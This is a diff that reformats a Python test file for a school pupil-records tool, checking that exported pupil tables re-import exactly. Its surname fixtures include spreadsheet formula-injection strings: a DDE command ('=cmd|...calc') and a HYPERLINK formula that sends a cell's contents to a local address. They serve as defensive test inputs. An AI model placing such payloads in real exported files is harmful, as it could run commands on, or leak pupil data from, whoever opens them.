@@ -40,7 +40,21 @@ from approgress.school.import_file import carry_out, plan_import
 from approgress.school.school import School
 from tests.importing import bring, every, new_school, twice, upn
 
-RUNS = ["=cmd|'/c calc'!A0", "+44 7700 900123", "-Dash", "@home", "\tTab", '=HYPERLINK("http://127.0.0.1:9/?"&A1,"x")', "O'Neil", "＝1+1", "'Bea", "%x", "|y", "plain", "Côté"]
+RUNS = [
+    "=cmd|'/c calc'!A0",
+    "+44 7700 900123",
+    "-Dash",
+    "@home",
+    "\tTab",
+    '=HYPERLINK("http://127.0.0.1:9/?"&A1,"x")',
+    "O'Neil",
+    "＝1+1",
+    "'Bea",
+    "%x",
+    "|y",
+    "plain",
+    "Côté",
+]
 NOTE = "-2.5 points since May"
 LONG = "word " * 9000
 
@@ -50,10 +64,38 @@ def school(tmp_path: Path) -> Iterator[School]:
     made = new_school(tmp_path)
     rows = io.StringIO()
     writer = csv.writer(rows)
-    writer.writerow(["Admission No", "UPN", "Surname", "Forename", "Preferred Name", "Date of Birth", "Year Group", "SEN Status", "Reg Group", "Home School", "Date of Admission"])
+    writer.writerow(
+        [
+            "Admission No",
+            "UPN",
+            "Surname",
+            "Forename",
+            "Preferred Name",
+            "Date of Birth",
+            "Year Group",
+            "SEN Status",
+            "Reg Group",
+            "Home School",
+            "Date of Admission",
+        ]
+    )
     for i, surname in enumerate(RUNS):
         # a leading apostrophe is a guard in somebody else's file, so a name that has one of its own is written with two
-        writer.writerow([f"P{i}", upn(i), "'" + surname if surname[0] == "'" else surname, "Ann", "", f"0{i % 9 + 1}/05/2012", "10", "K", "10A", "High School", "03/09/2026"])
+        writer.writerow(
+            [
+                f"P{i}",
+                upn(i),
+                "'" + surname if surname[0] == "'" else surname,
+                "Ann",
+                "",
+                f"0{i % 9 + 1}/05/2012",
+                "10",
+                "K",
+                "10A",
+                "High School",
+                "03/09/2026",
+            ]
+        )
     bring(made, rows.getvalue())
     made.do(
         Title.WRITE_NOTE,
@@ -158,7 +200,11 @@ def without_ids(records: list[Any]) -> list[tuple[Any, ...]]:
 
 @pytest.mark.parametrize("order", ["as exported", "backwards"])
 def test_every_table_of_pupils_comes_back_letter_for_letter(school: School, tmp_path: Path, order: str) -> None:
-    files = [f for f in export_all(school, tmp_path / "out") if f.stem in KINDS and KINDS[f.stem].of_pupil and KINDS[f.stem].name not in ("starting_point", "start_value")]
+    files = [
+        f
+        for f in export_all(school, tmp_path / "out")
+        if f.stem in KINDS and KINDS[f.stem].of_pupil and KINDS[f.stem].name not in ("starting_point", "start_value")
+    ]
     other = new_school(tmp_path / "other")
     for file in files if order == "as exported" else reversed(files):
         made = twice(other, file)
